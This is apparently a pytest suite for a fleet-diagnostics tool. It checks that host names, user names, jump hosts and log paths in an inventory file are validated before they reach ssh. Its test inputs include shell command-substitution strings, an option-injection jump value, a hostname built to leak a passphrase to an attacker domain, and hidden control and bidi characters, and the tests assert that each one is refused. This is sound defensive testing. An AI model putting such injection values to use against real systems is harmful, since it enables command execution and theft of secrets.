"""Inventory values that reach ssh (and a user's ProxyCommand) are host names, addresses and user names only."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fleetdiag.inventory import (
    InventoryError,
    hidden_char,
    host_problem,
    parse_inventory,
    parse_jump_hops,
    user_problem,
    visible,
)

from .sshd import free_port

REPO = Path(__file__).resolve().parents[1]
SHELL_META = "'`\"$\\;&<>|(){}, \t\n*?[]!#~="
HIDDEN = ["\x00", "\x1b", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b", "\u2028", "\ufeff"]


def error(text: str) -> InventoryError:
    with pytest.raises(InventoryError) as ei:
        parse_inventory(textwrap.dedent(text), "inv.yaml")
    return ei.value


def fleetdiag(args: list[str], home: Path, env_extra: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("FLEETDIAG_")}
    env.update({"HOME": str(home), "PYTHONPATH": str(REPO), "COLUMNS": "400", **(env_extra or {})})
    return subprocess.run(
        [sys.executable, "-c", "from fleetdiag.cli import main; main()", *args],
        env=env,
        cwd=home,
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.fixture
def proxy_home(tmp_path: Path) -> Path:
    """A HOME whose real ~/.ssh/config sends every host through a shell ProxyCommand that logs %h."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    seen = tmp_path / "seen"
    (home / ".ssh" / "config").write_text(
        f'Host *\n  ProxyCommand sh -c "echo %h >> {seen}; exec nc %h %p"\n  StrictHostKeyChecking no\n'
    )
    return home


def test_proxycommand_sees_a_plain_address(proxy_home: Path, tmp_path: Path) -> None:
    """The control: this ~/.ssh/config is honoured, so the refusals below are what keeps the shell out."""
    (proxy_home / "inv.yaml").write_text(f"hosts:\n  a:\n    address: 127.0.0.1\n    port: {free_port()}\n")
    fleetdiag(["-i", "inv.yaml", "probe", "a", "--connect-timeout", "3", "--log", "/tmp/x.log"], proxy_home)
    assert (tmp_path / "seen").read_text().split() == ["127.0.0.1"]


@pytest.mark.parametrize("command", [["check"], ["hosts"], ["probe", "all", "--connect-timeout", "3", "--log", "/x"]])
def test_hostile_address_never_reaches_the_proxycommand(proxy_home: Path, tmp_path: Path, command: list[str]) -> None:
    pwned = tmp_path / "PWNED"
    (proxy_home / "inv.yaml").write_text(
        textwrap.dedent(f"""\
        hosts:
          a:
            address: "$(touch$IFS{pwned})"
          b:
            address: "leak-${{FLEETDIAG_PASSPHRASE}}.attacker.invalid"
          c:
            address: 127.0.0.1
            jump: "ops@$(touch$IFS{pwned}):22"
        """)
    )
    r = fleetdiag(["-i", "inv.yaml", *command], proxy_home, {"FLEETDIAG_PASSPHRASE": "s3cret-pass"})
    assert r.returncode == 2, r.stderr
    assert "inv.yaml:3: hosts.a.address:" in r.stderr
    assert "s3cret-pass" not in r.stdout + r.stderr
    if command == ["check"]:  # check lists every bad value, not only the first
        assert "inv.yaml:5: hosts.b.address:" in r.stderr
        assert "inv.yaml:8: hosts.c.jump:" in r.stderr
    assert not pwned.exists()
    assert not (tmp_path / "seen").exists()


@pytest.mark.parametrize(
    "setting, key, fragment",
    [
        ('address: "gpu\\x1b]0;x\\x07"', "address", "\\x1b"),
        ('address: "gpu\\0x"', "address", "\\x00"),
        ('user: "root\\u202e"', "user", "\\u202e"),
        ('region: "uk\\u202e"', "region", "RIGHT-TO-LEFT OVERRIDE"),
        ('logs: {app: "/var/log/x\\x1b[2J.log"}', "logs.app", "\\x1b"),
        ('user: "a$(id)"', "user", "'$'"),
        ('user: "x;y"', "user", "';'"),
        ('address: "a|b"', "address", "'|'"),
        ('address: "[::1;x]"', "address", "IPv6"),
        ('jump: "a,b c"', "jump", "hop 2"),
        ('jump: "ops@bastion:99999"', "jump", "port"),
        ('jump: "-oProxyCommand=x"', "jump", "starts with '-'"),
        ('jump: "o`id`@bastion"', "jump", "user"),
    ],
)
def test_bad_values_are_located(setting: str, key: str, fragment: str) -> None:
    e = error(f"hosts:\n  ok:\n  gpu01:\n    {setting}\n")
    assert (e.line, e.key) == (4, f"hosts.gpu01.{key}")
    assert fragment in e.message
    assert all(hidden_char(str(x)) is None for x in e.errors)  # errors show escapes, never the raw bytes


def test_host_name_without_address_is_the_target_and_must_be_a_host() -> None:
    e = error("hosts:\n  a:\n  b=c:\n")
    assert (e.line, e.key) == (3, "hosts.b=c") and "ssh target" in e.message
    assert parse_inventory("hosts:\n  b=c:\n    address: 203.0.113.5\n").hosts["b=c"].address == "203.0.113.5"


def test_hidden_characters_in_keys_and_ansible_vars_are_refused() -> None:
    e = error('all:\n  hosts:\n    a:\n      ansible_host: "x\\u200by"\n')
    assert (e.line, e.key) == (4, "all.hosts.a.ansible_host")


@pytest.mark.parametrize(
    "good", ["gpu01", "gpu-01.example.com", "10.0.0.1", "::1", "[::1]", "fe80::1%eth0", "[2001:db8::1]", "lab_box"]
)
def test_good_hosts(good: str) -> None:
    assert host_problem(good) is None
    assert parse_inventory(f"hosts:\n  a:\n    address: '{good}'\n").hosts["a"].address == good


@pytest.mark.parametrize("good", ["ops@bastion:2222", "bastion", "a@b:22,c@[::1]:2200,d", "[2001:db8::1]"])
def test_good_jumps(good: str) -> None:
    assert parse_jump_hops(good)
    assert parse_inventory(f"hosts:\n  a:\n    jump: '{good}'\n").hosts["a"].jump == good


def test_jump_hops_are_parsed() -> None:
    hops = parse_jump_hops("ops@b1:2222,[::1]:22,b3")
    assert [(h.user, h.host, h.port) for h in hops] == [("ops", "b1", 2222), (None, "::1", 22), (None, "b3", None)]


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_no_accepted_host_or_user_holds_a_shell_or_hidden_character(s: str) -> None:
    for problem in (host_problem, user_problem):
        if problem(s) is None:
            assert not any(c in SHELL_META.replace(":", "") for c in s if not (problem is host_problem and c in "[]"))
            assert hidden_char(s) is None and s.isascii() and not s.startswith("-")


@settings(max_examples=200, deadline=None)
@given(
    st.text(alphabet="abc.-_", min_size=1, max_size=8), st.sampled_from(list(SHELL_META) + HIDDEN), st.integers(0, 8)
)
def test_one_bad_character_anywhere_is_refused(base: str, bad: str, at: int) -> None:
    s = base[:at] + bad + base[at:]
    assert host_problem(s) is not None
    assert user_problem(s) is not None
    if bad != ",":  # a comma separates hops
        with pytest.raises(ValueError):
            parse_jump_hops(f"u@{s}:22")


@given(st.text(max_size=30))
def test_visible_never_lets_a_hidden_character_through(s: str) -> None:
    assert hidden_char(visible(s)) is None


def test_log_paths_may_hold_newline_and_tab_but_nothing_else_hidden() -> None:
    inv = parse_inventory('hosts:\n  a:\n    logs: {x: "/tmp/a\\nb\\tc.log"}\n  b:\n    logs: "/tmp/n\\nl.log"\n')
    assert inv.hosts["a"].logs["x"] == "/tmp/a\nb\tc.log" and inv.hosts["b"].logs["default"] == "/tmp/n\nl.log"
    for bad in ("\\x1b", "\\0", "\\u202e", "\\r"):
        e = error(f'hosts:\n  a:\n    logs: {{x: "/tmp/a{bad}.log"}}\n')
        assert (e.line, e.key) == (3, "hosts.a.logs.x")
    assert error('hosts:\n  a:\n    region: "a\\nb"\n').key == "hosts.a.region"
